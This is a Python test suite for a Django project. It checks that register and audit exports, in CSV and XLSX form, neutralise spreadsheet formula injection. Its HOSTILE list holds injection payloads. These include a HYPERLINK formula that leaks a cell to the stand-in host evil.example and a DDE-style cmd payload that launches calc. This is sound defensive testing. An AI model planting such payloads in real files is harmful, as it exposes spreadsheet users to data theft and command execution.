"""Every export neutralises cells a spreadsheet would read as a formula (core/csv.py::neutralise)."""

from __future__ import annotations

import datetime as dt
import io
import sys
import unicodedata

import pytest
from openpyxl import load_workbook

from audit.models import AuditEntry
from core.csv import FORMULA_TRIGGERS, neutralise
from exports.audit import audit_csv
from exports.register import register_csv, register_xlsx
from inspections.models import PublicationType
from responses import services
from responses.models import Response
from tests.exports.helpers import read_csv
from tests.factories import BodyFactory, ForceFactory, UserFactory, make_response

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("https://evil.example/")',  # full-width equals
    "＋1",
    "－2",
    "＠SUM(1+1)",
    "﹦1+1",  # small equals
]
TODAY = dt.date(2024, 11, 10)


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_every_character_a_spreadsheet_normalises_to_a_formula_sign_is_a_trigger() -> None:
    signs = set("=+-@")
    look_alikes = {
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if char not in signs and unicodedata.normalize("NFKC", char)[:1] in signs
    }
    assert look_alikes <= set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("value", ["PEEL 2023–2025", "2024-09-24", "", "a=b", "'=already quoted", " =1"])
def test_neutralise_leaves_other_text_alone(value: str) -> None:
    assert neutralise(value) == value


def hostile_responses(steps) -> list[Response]:
    """One response per hostile string, in its title, force, body, publication type, URL, comments and evidence."""
    responses = []
    for n, value in enumerate(HOSTILE):
        force = ForceFactory(name=f"{value} force {n}")
        body = BodyFactory(force=force, name=f"{value} body {n}")
        response = make_response(body=body, title=f"{value}{n}", published_on=dt.date(2024, 9, 24))
        kind = PublicationType.objects.create(name=f"{value} type {n}", slug=f"hostile-{n}")
        response.inspection.publication_types.add(kind)
        response.published_url = value
        response.body_comments = value
        response.save()
        services.checklist_tick(
            response=response,
            step=steps[0],
            user=UserFactory(body=body),
            done_on=dt.date(2024, 10, 1),
            evidence_url=value,
            evidence_reference=value,
            note=value,
        )
        responses.append(response)
    return responses


def assert_no_formula(cells: list) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell:
            assert not cell.startswith(FORMULA_TRIGGERS), repr(cell)


@pytest.mark.django_db
def test_register_csv_neutralises_hostile_titles_names_and_urls(steps) -> None:
    hostile_responses(steps)
    rows = read_csv("".join(register_csv(Response.objects.all(), today=TODAY)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert_no_formula(list(row.values()))
    titles = {row["inspection"] for row in rows}
    assert {f"'{value}{n}" for n, value in enumerate(HOSTILE)} == titles
    assert {row["published_url"] for row in rows} == {f"'{value}" for value in HOSTILE}


@pytest.mark.django_db
def test_register_xlsx_has_no_formula_cells(steps) -> None:
    hostile_responses(steps)
    file = io.BytesIO()
    register_xlsx(Response.objects.all(), today=TODAY, file=file)
    sheet = load_workbook(io.BytesIO(file.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert_no_formula([cell.value for cell in cells])
    titles = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert f"'{HOSTILE[0]}0" in titles


@pytest.mark.django_db
def test_register_xlsx_drops_characters_a_workbook_cannot_hold(steps) -> None:
    make_response(title="Bell\x07 =1", published_on=dt.date(2024, 9, 24))
    file = io.BytesIO()
    register_xlsx(Response.objects.all(), today=TODAY, file=file)
    sheet = load_workbook(io.BytesIO(file.getvalue())).active
    assert sheet["A2"].value == "Bell =1"


@pytest.mark.django_db
def test_audit_csv_neutralises_hostile_comments_and_evidence(steps) -> None:
    hostile_responses(steps)
    rows = read_csv("".join(audit_csv(AuditEntry.objects.all())))
    for row in rows:
        assert_no_formula(list(row.values()))
    comments = {row["new"] for row in rows if row["field"] == "body_comments"}
    evidence = {row["new"] for row in rows if row["field"] == "evidence_reference"}
    assert {f"'{value}" for value in HOSTILE} <= comments
    assert {f"'{value}" for value in HOSTILE} <= evidence
